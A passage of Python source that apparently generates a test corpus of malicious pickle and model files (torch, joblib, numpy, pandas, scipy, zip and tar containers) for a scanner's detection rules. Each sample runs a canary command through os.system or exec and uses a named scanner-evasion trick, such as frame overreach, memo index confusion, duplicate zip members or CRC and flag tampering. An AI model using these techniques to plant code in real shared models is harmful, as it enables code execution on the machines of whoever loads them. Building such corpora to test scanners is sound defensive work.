        second = _write(out_dir, second_name, _mal(Canary(str(canary))))
        return _write(out_dir, "model.pkl", program(make(str(second)), protocol))

    return build


_register(
    "nested-numpy-load-path-p2",
    "nested-loader",
    "numpy.load(path, None, True) of a second file: a path trampoline (batch 1 U)",
    _trampoline(lambda p: Call(G("numpy", "load"), (p, None, True)), protocol=2),
    rules=GADGET,
)
_register(
    "nested-joblib-load-path-p4",
    "nested-loader",
    "joblib.load(path) of a second file",
    _trampoline(lambda p: Call(G("joblib", "load"), (p,))),
    rules=GADGET,
)
_register(
    "nested-pandas-read-pickle-path-p4",
    "nested-loader",
    "pandas.read_pickle(path) of a second file",
    _trampoline(lambda p: Call(G("pandas", "read_pickle"), (p,))),
    rules=GADGET,
)
_register(
    "nested-pickle-load-open-p2",
    "nested-loader",
    "pickle.load(builtins.open(path, 'rb')) of a second file",
    _trampoline(
        lambda p: Call(G("pickle", "load"), (Call(G("builtins", "open"), (p, "rb")),)), protocol=2
    ),
)
_register(
    "nested-partial-torch-load-p4",
    "nested-loader",
    "NEWOBJ_EX functools.partial(torch.load, path, weights_only=False)() (picklescan malicious19)",
    _trampoline(
        lambda p: Call(
            _newobj_ex(G("functools", "partial"), (G("torch", "load"), p), {"weights_only": False}),
            (),
        ),
        second_name="adapter.bin",
    ),
    rules=GADGET,
)

# ============================================================================================
# stream: tricks in the opcode stream itself (techniques 29-31, 36-41)
# ============================================================================================

_raw(
    "stream-execute-then-fail",
    "stream",
    "os.system REDUCE followed by garbage bytes: runs, then the loader raises (batch 1 R)",
    lambda c: asm.proto(2) + emit(_system(c), 2) + b"\xff\xfe\x00 not a pickle",
)
_raw(
    "stream-truncated-after-reduce",
    "stream",
    "the stream ends right after REDUCE, no STOP (nullifAI)",
    lambda c: asm.proto(4) + emit(_system(c), 4),
)
_raw(
    "stream-benign-then-malicious",
    "stream",
    "a benign pickle followed by a malicious one in the same file (batch 1 Y, technique 41)",
    lambda c: pickle.dumps({"weights": [0.5, 0.25]}, protocol=4) + _mal(c, 2),
    loader="pickle-multi",
)


def _frame_overreach(c: Canary) -> bytes:
    # Technique 39 (batch 1 E). A BINUNICODE inside a FRAME declares more bytes than the frame
    # holds. pickletools reads the string across the frame end and then sees a BINBYTES that
    # swallows the payload. CPython, reading a file object without peek(), drops the rest of the
    # frame, takes the string from after it, and lands on the payload opcodes.
    filler = 5  # bytes left in the frame after the BINUNICODE header
    payload = emit(_system(c), 2) + asm.POP
    hidden_header = b"B" + struct.pack("<I", len(payload))  # 5 bytes == filler
    length = 40
    framed = b"X" + struct.pack("<I", length) + b"A" * filler
    tail = b"Z" * (length - filler) + hidden_header
    return (
        asm.proto(4)
        + asm.frame(len(framed))
        + framed
        + tail
        + payload
        + asm.POP
        + asm.EMPTY_DICT
        + asm.STOP
    )


_raw(
    "stream-frame-overreach",
    "stream",
    "FRAME overreach: payload inside what pickletools sees as one BINBYTES (technique 39)",
    _frame_overreach,
    loader="pickle-bytesio",
    rules=frozenset({"MG101", "MG110"}),
)
_raw(
    "stream-string-stack-global-no-proto",
    "stream",
    "protocol-0 STRING operands feed STACK_GLOBAL, no PROTO header (batch 1 B, technique 30)",
    lambda c: (
        asm.string("os")
        + asm.string("system")
        + asm.STACK_GLOBAL
        + asm.MARK
        + asm.string(c.shell)
        + asm.TUPLE
        + asm.REDUCE
        + asm.STOP
    ),
)


def _memo_mixing(c: Canary) -> bytes:
    # Technique 29: BINPUT 0 then MEMOIZE. MEMOIZE stores at len(memo) (1 and 2 here), so a
    # scanner that numbers MEMOIZE separately from PUT resolves the GETs to the wrong strings.
    body = (
        asm.short_binunicode("json")
        + asm.binput(0)
        + asm.POP
        + asm.short_binunicode("os")
        + asm.MEMOIZE
        + asm.POP
        + asm.short_binunicode("system")
        + asm.MEMOIZE
        + asm.POP
        + asm.binget(1)
        + asm.binget(2)
        + asm.STACK_GLOBAL
        + emit((c.shell,), 4)
        + asm.REDUCE
    )
    return asm.wrap(body, 4)


_raw(
    "stream-memo-put-memoize-mixing",
    "stream",
    "BINPUT and MEMOIZE mixed so memo indices depend on memo length (technique 29)",
    _memo_mixing,
)


def _memo_roundtrip(c: Canary) -> bytes:
    # Module and name strings take a round trip through the memo under text PUT, LONG_BINPUT
    # and a large sparse index before a GLOBAL-free STACK_GLOBAL uses them.
    body = (
        asm.unicode("subprocess")
        + asm.put(7)
        + asm.POP
        + asm.unicode("check_call")
        + asm.long_binput(70000)
        + asm.POP
        + asm.unicode("benign")
        + asm.put(3)
        + asm.POP
        + asm.get(7)
        + asm.long_binget(70000)
        + asm.STACK_GLOBAL
        + asm.MARK
        + emit(c.argv, 0)
        + asm.TUPLE
        + asm.REDUCE
    )
    return body + asm.STOP


_raw(
    "stream-memo-roundtrip-text",
    "stream",
    "module/name strings round-trip through PUT/LONG_BINPUT/GET/LONG_BINGET, no PROTO",
    _memo_roundtrip,
)
_raw(
    "stream-inst-p0",
    "stream",
    "INST posix.system with the command above MARK (protocol 0 instantiation)",
    lambda c: asm.MARK + asm.unicode(c.shell) + asm.inst("posix", "system") + asm.STOP,
)
_raw(
    "stream-obj-p1",
    "stream",
    "OBJ opcode: MARK, GLOBAL os.system, command, OBJ",
    lambda c: asm.MARK + asm.global_("os", "system") + asm.binunicode(c.shell) + asm.OBJ + asm.STOP,
)
_expr(
    "stream-newobj-partial-p4",
    "stream",
    "NEWOBJ functools.partial(os.system, cmd) then call (NEWOBJ instead of REDUCE)",
    4,
    lambda c: Call(_newobj(G("functools", "partial"), (G("os", "system"), c.shell)), ()),
)
_expr(
    "stream-discarded-result-p4",
    "stream",
    "the payload's result is POPped; the pickle returns a benign dict (technique 37)",
    4,
    lambda c: Seq((_system(c),), {"state_dict": {"w": [0.0, 1.0]}}),
)
_expr(
    "stream-reduce-then-build-p2",
    "stream",
    "REDUCE followed by BUILD(None) on its result, then discarded (technique 36)",
    2,
    lambda c: Seq((Build(_system(c), None),), [1, 2, 3]),
)
_raw(
    "stream-legacy-torch-sys-info",
    "stream",
    "legacy torch stream whose sys_info pickle (the third) is the payload",
    lambda c: (
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
        + pickle.dumps(1001, protocol=2)
        + _mal(c)
        + pickle.dumps({"w": 1}, protocol=2)
        + pickle.dumps([], protocol=2)
    ),
    filename="model.pt",
    loader="torch",
)
_raw(
    "stream-legacy-torch-magic",
    "stream",
    "raw pickle named pytorch_model.bin: torch's legacy path unpickles the 'magic number'",
    lambda c: _mal(c) + b"\x00" * 16,
    filename="pytorch_model.bin",
    loader="torch",
)

# ============================================================================================
# container: where the pickle lives (techniques 44-57, 59)
# ============================================================================================

_raw(
    "container-named-safetensors",
    "container",
    "raw pickle named model.safetensors (batch 1 V)",
    _mal,
    filename="model.safetensors",
)
_raw(
    "container-named-txt-p0",
    "container",
    "protocol-0 pickle (no binary magic) named notes.txt",
    lambda c: program(_system(c), 0),
    filename="notes.txt",
)
_raw(
    "container-no-extension",
    "container",
    "raw pickle with no extension (batch 1 V2)",
    lambda c: _mal(c, 4),
    filename="model",
)


def _zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of some samples
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
            for name, data in members:
                zf.writestr(name, data)
    return buf.getvalue()


def _tar_bytes(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.PAX_FORMAT) as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@cache
def _torch_benign_members() -> tuple[tuple[str, bytes], ...]:
    """The members of a real, benign torch.save state dict (zip format)."""
    import torch

    buf = io.BytesIO()
    torch.save({"linear.weight": torch.zeros(2, 2), "linear.bias": torch.ones(2)}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        return tuple((info.filename, zf.read(info)) for info in zf.infolist())


def _torch_zip(
    data_pkl: bytes, *, keep_benign: bool = False, extra: tuple[str, bytes] | None = None
) -> bytes:
    """A real torch archive with data.pkl replaced by `data_pkl`.

    With keep_benign, the original data.pkl is appended again as the archive's last member.
    zipfile resolves a duplicate name to the last entry. torch (miniz) binary-searches its
    sorted central directory, so which copy it gets depends on the layout: with the
    malicious copy first and the benign copy last it gets the malicious one (checked on
    torch 2.13; other layouts give the benign copy).
    """
    members: list[tuple[str, bytes]] = []
    if extra is not None:
        members.append(extra)
    benign: list[tuple[str, bytes]] = []
    for name, data in _torch_benign_members():
        if name.endswith("/data.pkl"):
            members.append((name, data_pkl))
            if keep_benign:
                benign.append((name, data))
        else:
            members.append((name, data))
    return _zip_bytes(members + benign)


def _headers(
    data: bytes | bytearray, signature: bytes, name_len_at: int, name_at: int
) -> Iterator[tuple[int, bytes]]:
    i = data.find(signature)
    while i >= 0:
        (n,) = struct.unpack_from("<H", data, i + name_len_at)
        yield i, bytes(data[i + name_at : i + name_at + n])
        i = data.find(signature, i + 4)


def _patch_zip(
    data: bytes,
    member_suffix: str,
    *,
    flag: int = 0,
    crc_xor: int = 0,
    local_name: str | None = None,
) -> bytes:
    """Patch one member's local and central headers: OR in flag bits, corrupt the CRC, or rename
    the member in the local header only."""
    out = bytearray(data)
    suffix = member_suffix.encode()
    for i, name in _headers(out, b"PK\x03\x04", 26, 30):
        if name.endswith(suffix):
            (bits,) = struct.unpack_from("<H", out, i + 6)
            struct.pack_into("<H", out, i + 6, bits | flag)
            (crc,) = struct.unpack_from("<I", out, i + 14)
            struct.pack_into("<I", out, i + 14, crc ^ crc_xor)
            if local_name is not None:
                new = local_name.encode()
                assert len(new) == len(name), "same length keeps offsets valid"
                out[i + 30 : i + 30 + len(new)] = new
    for i, name in _headers(out, b"PK\x01\x02", 28, 46):
        if name.endswith(suffix):
            (bits,) = struct.unpack_from("<H", out, i + 8)
            struct.pack_into("<H", out, i + 8, bits | flag)
            (crc,) = struct.unpack_from("<I", out, i + 16)
            struct.pack_into("<I", out, i + 16, crc ^ crc_xor)
    return bytes(out)


def _torch_save_payload(out_dir: Path, canary: Path) -> Path:
    import torch

    path = out_dir / "model.pt"
    obj = {"linear.weight": torch.zeros(2, 2), "config": _payload(Canary(str(canary)))}
    torch.save(obj, path)
    return path


def _torch_save_legacy(out_dir: Path, canary: Path) -> Path:
    import torch

    path = out_dir / "model.pt"
    obj = {"linear.weight": torch.zeros(2, 2), "config": _payload(Canary(str(canary)))}
    torch.save(obj, path, _use_new_zipfile_serialization=False)
    return path


_register(
    "container-torch-save-zip",
    "container",
    "real torch.save (zip) of a state dict holding an object whose __reduce__ is os.system",
    _torch_save_payload,
    loader="torch",
)
_register(
    "container-torch-save-legacy",
    "container",
    "real torch.save(_use_new_zipfile_serialization=False): payload in the main pickle (H)",
    _torch_save_legacy,
    loader="torch",
)
_raw(
    "container-torch-zip-duplicate-data-pkl",
    "container",
    "torch zip with two archive/data.pkl, first malicious, last benign: torch reads the first, "
    "zipfile the last (technique 50)",
    lambda c: _torch_zip(_mal(c), keep_benign=True),
    filename="model.pt",
    loader="torch",
    rules=frozenset({"MG101", "MG203"}),
)
_raw(
    "container-torch-zip-name-mismatch",
    "container",
    "local header names data.pkl 'data.txt', central directory 'data.pkl' (CVE-2025-1944)",
    lambda c: _patch_zip(_torch_zip(_mal(c)), "/data.pkl", local_name="archive/data.txt"),
    filename="model.pt",
    loader="torch",
    rules=frozenset({"MG101", "MG203"}),
)
for _bit in (0x1, 0x20, 0x40):
    _raw(
        f"container-torch-zip-flag-{_bit:#04x}",
        "container",
        f"a sibling member carries general-purpose flag {_bit:#x}; zipfile raises, torch reads "
        "data.pkl (CVE-2025-1945)",
        lambda c, bit=_bit: _patch_zip(
            _torch_zip(_mal(c), extra=("archive/extra/notes.txt", b"release notes")),
            "/extra/notes.txt",
            flag=bit,
        ),
        filename="model.pt",
        loader="torch",
        rules=frozenset({"MG101", "MG204"}),
    )
_raw(
    "container-torch-zip-bad-crc",
    "container",
    "data.pkl with a wrong CRC-32: zipfile raises, torch ignores it (CVE-2025-10156)",
    lambda c: _patch_zip(_torch_zip(_mal(c)), "/data.pkl", crc_xor=0xDEADBEEF),
    filename="model.pt",
    loader="torch",
    rules=frozenset({"MG101", "MG204"}),
)
_raw(
    "container-torch-zip-frame-overreach",
    "container",
    "torch zip whose data.pkl is the FRAME-overreach pickle (torch reads it via BytesIO)",
    lambda c: _torch_zip(_frame_overreach(c)),
    filename="model.pt",
    loader="torch",
    rules=frozenset({"MG101", "MG110"}),
)


def _legacy_tar(storages: bytes, pickle_member: bytes) -> bytes:
    sys_info = pickle.dumps(
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}, protocol=2
    )
    return _tar_bytes(
        [
            ("sys_info", sys_info),
            ("storages", storages),
            ("tensors", pickle.dumps(0, protocol=2)),
            ("pickle", pickle_member),
        ]
    )


_raw(
    "container-torch-legacy-tar-pickle",
    "container",
    "legacy torch tar layout (sys_info/storages/tensors/pickle), payload in 'pickle' (P)",
    lambda c: _legacy_tar(pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2), _mal(c)),
    filename="model.pt",
    loader="torch",
)
_raw(
    "container-torch-legacy-tar-storages-frame",
    "container",
    "legacy torch tar: 'storages' is read unbuffered, so a FRAME-overreach pickle runs there",
    lambda c: _legacy_tar(_frame_overreach(c), pickle.dumps({}, protocol=2)),
    filename="model.pt",
    loader="torch",
    rules=frozenset({"MG101", "MG110"}),
)
_raw(
    "container-pickle-zip-polyglot",
    "container",
    "malicious pickle prefix with a benign zip appended: is_zipfile() is true (batch 1 I)",
    lambda c: _mal(c) + _zip_bytes([("config.json", b'{"hidden_size": 8}')]),
    filename="model.bin",
    rules=frozenset({"MG101", "MG202"}),
)
_raw(
    "container-zip-member-txt-p0",
    "container",
    "protocol-0 pickle inside a zip as weights/config.txt (batch 1 J)",
    lambda c: _zip_bytes([("weights/config.txt", program(_system(c), 0))]),
    filename="bundle.zip",
    loader="pickle-member:weights/config.txt",
)
_raw(
    "container-zip-in-zip",
    "container",
    "zip nested in a zip holding model/data.pkl (batch 1 L)",
    lambda c: _zip_bytes(
        [("README.md", b"# model\n"), ("inner.zip", _zip_bytes([("model/data.pkl", _mal(c))]))]
    ),
    filename="bundle.zip",
    loader="pickle-member:inner.zip!model/data.pkl",
)
_raw(
    "container-tar-member",
    "container",
    "tar holding model/data.pkl (batch 1 M)",
    lambda c: _tar_bytes([("model/data.pkl", _mal(c, 4))]),
    filename="model.tar",
    loader="pickle-member:model/data.pkl",
)
_raw(
    "container-tar-gz-member",
    "container",
    "gzip-compressed tar holding checkpoint/state.pkl",
    lambda c: _tar_bytes([("checkpoint/state.pkl", _mal(c))], mode="w:gz"),
    filename="model.tar.gz",
    loader="pickle-member:checkpoint/state.pkl",
)


def _joblib(compress: str | None) -> Callable[[Path, Path], Path]:
    def build(out_dir: Path, canary: Path) -> Path:
        import joblib

        path = out_dir / "model.joblib"
        obj = {"estimator": "LogisticRegression", "hook": _payload(Canary(str(canary)))}
        joblib.dump(obj, path, compress=(compress, 3) if compress else 0)
        return path

    return build


for _method in ("gzip", "bz2", "xz", "lzma", "zlib"):
    _register(
        f"container-joblib-{_method}",
        "container",
        f"real joblib.dump(compress='{_method}') of an object whose __reduce__ is os.system (N)",
        _joblib(_method),
        loader="joblib",
    )


def _joblib_object_array(out_dir: Path, canary: Path) -> Path:
    import joblib
    import numpy as np

    path = out_dir / "model.joblib"
    arr = np.empty(2, dtype=object)
    arr[0] = _payload(Canary(str(canary)))
    arr[1] = 1
    joblib.dump({"coef": np.arange(4.0), "classes": arr}, path)
    return path


_register(
    "container-joblib-object-array",
    "container",
    "joblib object array: the payload is pickled after the NumpyArrayWrapper (batch 3 Q)",
    _joblib_object_array,
    loader="joblib",
)


def _object_array(c: Canary) -> Any:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0] = _payload(c)
    arr[1] = "label"
    return arr


def _npy(out_dir: Path, canary: Path) -> Path:
    import numpy as np

    path = out_dir / "embeddings.npy"
    np.save(path, _object_array(Canary(str(canary))), allow_pickle=True)
    return path


def _npz(compressed: bool) -> Callable[[Path, Path], Path]:
    def build(out_dir: Path, canary: Path) -> Path:
        import numpy as np

        path = out_dir / "arrays.npz"
        save = np.savez_compressed if compressed else np.savez
        save(path, weights=np.arange(6.0), labels=_object_array(Canary(str(canary))))
        return path

    return build


_register(
    "container-npy-object-array",
    "container",
    "object-dtype .npy carrying a pickle (batch 1 O)",
    _npy,
    loader="numpy",
)
_register(
    "container-npz-object-array",
    "container",
    ".npz whose labels.npy is an object array with a payload element (technique 59)",
    _npz(False),
    loader="numpy-npz",
)
_register(
    "container-npz-compressed-object-array",
    "container",
    "deflate-compressed .npz with an object-array member",
    _npz(True),
    loader="numpy-npz",
)


def _pandas(filename: str) -> Callable[[Path, Path], Path]:
    def build(out_dir: Path, canary: Path) -> Path:
        import pandas as pd

        path = out_dir / filename
        frame = pd.DataFrame({"feature": [1.0, 2.0], "meta": [_payload(Canary(str(canary))), None]})
        frame.to_pickle(path)  # compression inferred from the suffix
        return path

    return build


_register(
    "container-pandas-dataframe",
    "container",
    "real DataFrame.to_pickle with a payload object in an object column",
    _pandas("frame.pkl"),
    loader="pandas",
)
_register(
    "container-pandas-dataframe-gz",
    "container",
    "DataFrame pickle gzip-compressed as frame.pkl.gz; read_pickle decompresses by suffix",
    _pandas("frame.pkl.gz"),
    loader="pandas",
)


def _scipy_template(out_dir: Path, canary: Path) -> Path:
    """A real scipy.stats.norm_gen state whose _parse_arg_template also creates the canary.

    rv_generic.__setstate__ exec()s that template (the allowlist accepts scipy distributions
    only with scipy's own generated template).
    """
    import copy

    import scipy.stats as st

    dist = copy.copy(st.norm)  # a private instance; its pickled state carries the template
    dist._parse_arg_template = Canary(str(canary)).python + "\n" + dist._parse_arg_template
    return _write(out_dir, "search.pkl", pickle.dumps(dist, protocol=4))


_register(
    "state-scipy-parse-arg-template-p4",
    "state-mutation",
    "scipy.stats distribution whose __setstate__ exec()s a planted _parse_arg_template",
    _scipy_template,
)


SAMPLES: tuple[MaliciousSample, ...] = tuple(_REGISTRY)
assert len({s.id for s in SAMPLES}) == len(SAMPLES), "duplicate sample id"


def sample_by_id(sample_id: str) -> MaliciousSample:
    """Return the sample with `sample_id`.

    Raises:
        KeyError: no such sample.
    """
    for s in SAMPLES:
        if s.id == sample_id:
            return s
    raise KeyError(sample_id)
